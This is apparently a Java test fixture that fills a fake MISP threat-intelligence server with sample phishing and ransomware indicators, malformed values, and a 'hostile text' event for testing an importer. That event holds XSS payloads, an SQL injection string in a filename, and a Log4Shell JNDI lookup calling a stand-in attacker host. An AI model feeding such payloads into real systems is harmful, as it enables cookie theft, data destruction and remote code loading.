package org.iocsync.testkit;

import java.time.LocalDate;

/** Hand-made sample events: realistic indicators, values an importer must refuse, hostile text. */
final class SampleData {
  private SampleData() {}

  static void addTo(FakeMisp misp) {
    long phishing =
        misp.addEvent(
            FakeMisp.event("Phishing campaign against finance staff")
                .tags("tlp:green", "type:OSINT", "misp-galaxy:threat-actor=\"Sample Actor\"")
                .date(LocalDate.of(2024, 3, 18))
                .threatLevel(2));
    misp.addAttribute(
        phishing, FakeMisp.attribute("ip-dst", "203.0.113.10").comment("Landing page"));
    misp.addAttribute(phishing, "ip-dst", "203.0.113.11");
    misp.addAttribute(phishing, "domain", "login-microsoft-verify.example");
    misp.addAttribute(phishing, "hostname", "mail.login-microsoft-verify.example.");
    misp.addAttribute(phishing, "url", "https://login-microsoft-verify.example/owa/auth.php");
    misp.addAttribute(phishing, "email-src", "payroll@login-microsoft-verify.example");
    misp.addAttribute(phishing, "email-subject", "Action required: confirm your salary details");
    misp.addAttribute(phishing, "md5", "d41d8cd98f00b204e9800998ecf8427e");
    misp.addAttribute(
        phishing,
        "filename|sha256",
        "salary-2024.pdf.exe|9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
    misp.addAttribute(phishing, FakeMisp.attribute("link", "https://blog.example/phishing-wave"));

    long ransomware =
        misp.addEvent(
            FakeMisp.event("Ransomware command-and-control infrastructure")
                .tags("tlp:amber", "kill-chain:command-and-control")
                .date(LocalDate.of(2024, 4, 2))
                .threatLevel(1));
    misp.addAttribute(ransomware, "ip-dst|port", "198.51.100.23|4444");
    misp.addAttribute(ransomware, "ip-src|port", "198.51.100.24|8443");
    misp.addAttribute(ransomware, "ip-dst", "2001:db8::dead:beef");
    misp.addAttribute(ransomware, "domain|ip", "c2.ransom-ops.example|198.51.100.25");
    misp.addAttribute(ransomware, "hostname|port", "relay.ransom-ops.example|443");
    misp.addAttribute(
        ransomware, "sha256", "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855");
    misp.addAttribute(ransomware, "sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709");
    misp.addAttribute(ransomware, "AS", "AS64496");
    misp.addAttribute(ransomware, "mutex", "Global\\RansomOpsMutex");
    misp.addAttribute(ransomware, "ip-dst", "01.2.3.4");
    misp.addAttribute(ransomware, "ip-dst", "10.0.0.0/8");
    misp.addAttribute(ransomware, "ip-dst", "192.0.2.1/32");
    misp.addAttribute(ransomware, "ip-dst", "::ffff:192.0.2.128");
    misp.addAttribute(ransomware, "ip-dst", "fe80::1%eth0");
    misp.addAttribute(ransomware, FakeMisp.attribute("url", "107.183.86").comment("malformed"));
    misp.addAttribute(ransomware, FakeMisp.attribute("ip-src", "192.0.2.200").toIds(false));
    String withdrawn = misp.addAttribute(ransomware, "ip-dst", "192.0.2.201");
    misp.deleteAttribute(withdrawn);

    long hostile =
        misp.addEvent(
            FakeMisp.event("Indicators with hostile text <script>alert('event')</script>")
                .tags("tlp:white", "<b>bold-tag</b>")
                .date(LocalDate.of(2024, 4, 20)));
    misp.addAttribute(hostile, "url", "http://evil.example/<script>alert(1)</script>");
    misp.addAttribute(hostile, "domain", "xn--80ak6aa92e.example");
    misp.addAttribute(hostile, "filename", "\"; DROP TABLE reference_sets; --");
    misp.addAttribute(hostile, "text", "<img src=x onerror=alert(document.cookie)>");
    misp.addAttribute(hostile, "user-agent", "Mozilla/5.0 ${jndi:ldap://evil.example/a}");
    misp.addAttribute(hostile, "url", "http://long.example/" + "a".repeat(3000));
    misp.addAttribute(hostile, "domain", "Mixed-Case.Example.COM");
    misp.addAttribute(hostile, "ip-dst", " 203.0.113.99 ");

    long draft =
        misp.addEvent(
            FakeMisp.event("Draft: not yet reviewed")
                .published(false)
                .tags("tlp:red")
                .date(LocalDate.of(2024, 5, 1)));
    misp.addAttribute(draft, "ip-dst", "203.0.113.50");
    misp.addAttribute(draft, "domain", "draft-only.example");
  }
}
